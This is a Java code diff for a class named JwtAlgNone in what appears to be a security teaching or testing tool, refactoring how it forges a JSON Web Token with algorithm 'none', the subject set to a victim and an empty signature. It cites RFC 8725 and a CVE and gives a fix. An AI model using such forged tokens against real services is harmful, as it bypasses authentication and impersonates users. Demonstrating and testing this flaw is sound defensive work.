@@ -1,6 +1,9 @@
 package dev.gatehouse.desktop.attack;
 
 import com.google.auto.service.AutoService;
+import dev.gatehouse.desktop.attack.forge.AlgNone;
+import dev.gatehouse.desktop.attack.forge.Ingredients;
+import dev.gatehouse.desktop.credential.CompactToken;
 import dev.gatehouse.desktop.credential.CredentialException;
 import java.util.List;
 
@@ -18,18 +21,16 @@ public final class JwtAlgNone extends JwtAttack {
         "The server asks the token how to verify it, and the token says: not at all.",
         "accept-alg-none",
         List.of("RFC 8725 §3.2", "RFC 7518 §3.6", "CVE-2015-2951"),
-        "Keep a list of the algorithms that are accepted, compare alg with it exactly, and never put none on it.");
+        "Keep a list of the algorithms that are accepted, compare alg with it exactly, and never"
+            + " put none on it.");
   }
 
   @Override
   String token(Target target) throws CredentialException {
-    String forged =
-        ownToken(target)
-            .withHeader("alg", "none")
-            .withClaim("sub", Loot.VICTIM)
-            .withSignature(new byte[0])
-            .text();
+    CompactToken wanted = ownToken(target).withClaim("sub", Loot.VICTIM);
     return target.makes(
-        "Write alg none and sub alice, and leave the signature empty.", "forged token", forged);
+        "Write alg none and sub alice, and leave the signature empty.",
+        "forged token",
+        new AlgNone().forge(wanted, Ingredients.none()).text());
   }
 }
